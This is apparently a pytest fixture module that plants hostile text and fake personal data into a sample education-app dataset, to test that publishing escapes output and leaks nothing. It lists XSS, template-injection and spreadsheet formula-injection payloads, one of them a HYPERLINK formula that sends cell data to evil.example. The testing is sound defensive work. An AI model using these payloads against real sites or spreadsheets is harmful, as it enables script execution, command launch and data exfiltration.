"""A copy of the sample with hostile text and unique personal data planted, and its publish.

Shared by the session fixtures ``planted_data``, ``planted_published`` and
``failing_published`` of tests/conftest.py (test_injection, test_personal_data, test_faults,
test_publish, test_browser, test_determinism).  The expensive publish runs once per test
session: results are cached in this module (a module is imported once per session), keyed by
the publish options, in folders under pytest's ``tmp_path_factory``.

What is planted (all values unique, so any occurrence in an output is a leak):

* :data:`HOSTILE` — script tags, event handlers, spreadsheet formulas, template syntax and
  control characters in provider names, app names, app descriptions, waiver reasons,
  waiver approvers, expert names, assessor names, submission batches and complaint text;
* :data:`PHONES`, :data:`ID_NUMBERS`, :data:`EMAILS`, :data:`NAMES`, :data:`PHRASES` — in
  complaint ``contact`` and ``text``, and a name and phone in the ``responsible_unit`` of some
  schools' selections (personal data: never published);
* hostile text before the names of a dozen schools of the planted provinces (issue 18).
"""

from __future__ import annotations

import shutil
from pathlib import Path
from typing import Any

import pandas as pd

ROOT = Path(__file__).resolve().parents[2]
SAMPLE = ROOT / "data" / "sample"
AS_OF = "2026-09-01"
PROVINCES = ("11", "44")

#: Hostile free text; the marker ``__pwned`` must never execute in a browser.
HOSTILE: dict[str, str] = {
    "script": "<script>window.__pwned=1</script>",
    "close_script": "</script><script>window.__pwned=11</script>",
    "img": '<img src=x onerror="window.__pwned=2">',
    "svg": "'\"><svg onload=window.__pwned=3>",
    "attr": "\" onmouseover=\"window.__pwned=4\" x=\"",
    "js_url": "[点我](javascript:window.__pwned=5)",
    "template": "{{7*7}} ${7*7} <%= 7*7 %>",
    "formula_eq": '=HYPERLINK("http://evil.example/?x="&A1,"点击领取")',
    "formula_plus": "+cmd|' /C calc'!A0",
    "formula_minus": "-2+3+cmd|' /C calc'!A0",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_tab": "\t=1+1",
    "formula_space": "  =1+2",
    "json_break": '"}]}</script>\u2028\u2029',
    "style": "<style>body{display:none}</style>",
    "iframe": '<iframe src="javascript:window.__pwned=6"></iframe>',
}


def _id_number(first17: str) -> str:
    """A resident ID number with its GB 11643 check character."""
    weights = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2]
    total = sum(int(d) * w for d, w in zip(first17, weights, strict=False))
    return first17 + "10X98765432"[total % 11]


N_PLANTED = 12
#: Unique mobile numbers (never produced by the generator: 159 0772 1xxx).
PHONES = [f"1590772{1000 + i:04d}" for i in range(N_PLANTED)]
#: Unique, checksum-valid resident ID numbers.
ID_NUMBERS = [_id_number(f"4401061987{(i % 12) + 1:02d}15{300 + i:03d}") for i in range(N_PLANTED)]
#: Unique e-mail addresses.
EMAILS = [f"leak.sentinel.{i:03d}@planted-pd.example.cn" for i in range(N_PLANTED)]
#: Unique complainant names (contact field).
NAMES = [f"哨兵{c}女士" for c in "甲乙丙丁戊己庚辛壬癸子丑"[:N_PLANTED]]
#: Unique sentences of complaint text (the text itself must not be published either).
PHRASES = [f"投诉原文哨兵句{i:03d}请勿外泄" for i in range(N_PLANTED)]


def personal_needles() -> list[str]:
    """Every planted personal-data string (each must occur nowhere in a published tree)."""
    return [*PHONES, *ID_NUMBERS, *EMAILS, *NAMES, *PHRASES]


def _read(folder: Path, name: str) -> pd.DataFrame:
    return pd.read_csv(folder / f"{name}.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig")


def _write(frame: pd.DataFrame, folder: Path, name: str) -> None:
    frame.to_csv(folder / f"{name}.csv", index=False, encoding="utf-8", lineterminator="\n")


def make_planted(folder: Path) -> dict[str, Any]:
    """Copy the sample into ``folder`` and plant hostile text and personal data.

    Returns
    -------
    dict
        ``apps``: {app_id: hostile key used in its name}, ``providers``: {provider_id: key},
        ``complaints``: list of complaint ids planted.
    """
    folder.mkdir(parents=True, exist_ok=True)
    for f in SAMPLE.iterdir():
        if f.is_file():
            shutil.copy2(f, folder / f.name)
    subs = _read(folder, "submissions")
    apps = _read(folder, "apps")
    providers = _read(folder, "providers")
    keys = list(HOSTILE)
    in_scope = subs.loc[subs["province_code"].isin(PROVINCES), "app_id"].drop_duplicates().tolist()
    targets = in_scope[: len(keys)]
    planted_apps: dict[str, str] = {}
    for i, app_id in enumerate(targets):  # a loop over a dozen planted rows
        key = keys[i % len(keys)]
        row = apps["app_id"] == app_id
        apps.loc[row, "name"] = apps.loc[row, "name"] + HOSTILE[key]
        apps.loc[row, "description"] = HOSTILE[keys[(i + 3) % len(keys)]] + "\r\n第二行\n" + HOSTILE[key]
        planted_apps[app_id] = key
    planted_providers: dict[str, str] = {}
    prov_ids = apps.loc[apps["app_id"].isin(targets), "provider_id"].drop_duplicates().tolist()
    for j, pid in enumerate(prov_ids[:6]):
        key = keys[(j + 5) % len(keys)]
        providers.loc[providers["provider_id"] == pid, "name"] = HOSTILE[key] + "教育科技有限公司"
        planted_providers[pid] = key
    _write(apps, folder, "apps")
    _write(providers, folder, "providers")

    subs.loc[subs["app_id"].isin(targets), "batch"] = HOSTILE["formula_eq"]
    _write(subs, folder, "submissions")

    experts = _read(folder, "experts")
    in_prov = experts["province_code"].isin(PROVINCES)
    first = experts.index[in_prov][:2]
    experts.loc[first, "name"] = [HOSTILE["img"], HOSTILE["formula_plus"]]
    _write(experts, folder, "experts")

    assessments = _read(folder, "assessments")
    some = assessments.index[assessments["app_id"].isin(targets)][:20]
    assessments.loc[some, "assessor"] = HOSTILE["svg"]
    assessments.loc[some, "report_ref"] = HOSTILE["formula_at"]
    _write(assessments, folder, "assessments")

    waivers = _read(folder, "waivers")
    waivers["reason"] = HOSTILE["script"] + waivers["reason"] + HOSTILE["formula_minus"]
    waivers["approved_by"] = HOSTILE["attr"] + waivers["approved_by"]
    # a waiver for a planted app, so that a waiver shows in a published province
    extra = waivers.iloc[[0]].copy()
    extra["app_id"] = targets[0]
    extra["criterion_id"] = "S10_high_risk_vulnerabilities"
    waivers = pd.concat([waivers, extra], ignore_index=True)
    _write(waivers, folder, "waivers")

    # schools (issue 18): hostile school names; personal data in the (never published) responsible unit
    schools = _read(folder, "schools")
    mine = schools.index[schools["province_code"].isin(PROVINCES)][: len(keys)]
    schools.loc[mine, "name"] = [HOSTILE[keys[i % len(keys)]] + schools.loc[idx, "name"]
                                 for i, idx in enumerate(mine)]  # a loop over a dozen planted rows
    _write(schools, folder, "schools")
    selections = _read(folder, "selections")
    ours = selections["school_id"].isin(schools.loc[mine, "school_id"])
    selections.loc[ours, "responsible_unit"] = f"信息中心 {NAMES[0]} {PHONES[0]}"
    _write(selections, folder, "selections")

    complaints = _read(folder, "complaints")
    chosen = complaints.index[complaints["app_id"].isin(in_scope)][:N_PLANTED]
    if len(chosen) < N_PLANTED:  # not enough complaints in scope: take any
        chosen = complaints.index[:N_PLANTED]
    for i, idx in enumerate(chosen):  # a loop over a dozen planted rows
        complaints.loc[idx, "contact"] = f"{NAMES[i]} {PHONES[i]} {EMAILS[i]}"
        complaints.loc[idx, "text"] = (
            f"{PHRASES[i]}。我叫{NAMES[i]}，电话{PHONES[i]}，身份证{ID_NUMBERS[i]}，"
            f"邮箱{EMAILS[i]}。{HOSTILE[keys[i % len(keys)]]}"
        )
    _write(complaints, folder, "complaints")
    return {"apps": planted_apps, "providers": planted_providers,
            "complaints": complaints.loc[chosen, "complaint_id"].tolist()}


_CACHE: dict[tuple, Any] = {}


def planted_data(tmp_path_factory: Any) -> tuple[Path, dict[str, Any]]:
    """(folder, planted info) of the planted dataset, made once per session."""
    key = ("data",)
    if key not in _CACHE:
        folder = tmp_path_factory.mktemp("planted_data")
        _CACHE[key] = (folder, make_planted(folder))
    return _CACHE[key]


def planted_publish(tmp_path_factory: Any, *, workers: int = 2, scheduler: Any = None,
                    tag: str = "w2") -> tuple[Path, Any]:
    """(published folder ``<out>/<as_of>``, PublishResult) of the planted data; once per tag."""
    from evalkit import publish as pub

    key = ("publish", tag)
    if key not in _CACHE:
        data, _ = planted_data(tmp_path_factory)
        out = tmp_path_factory.mktemp(f"planted_pub_{tag}")
        result = pub.publish(data, AS_OF, provinces=",".join(PROVINCES), workers=workers,
                             scheduler=scheduler, out_dir=out, progress=False)
        _CACHE[key] = (out / AS_OF, result)
    return _CACHE[key]
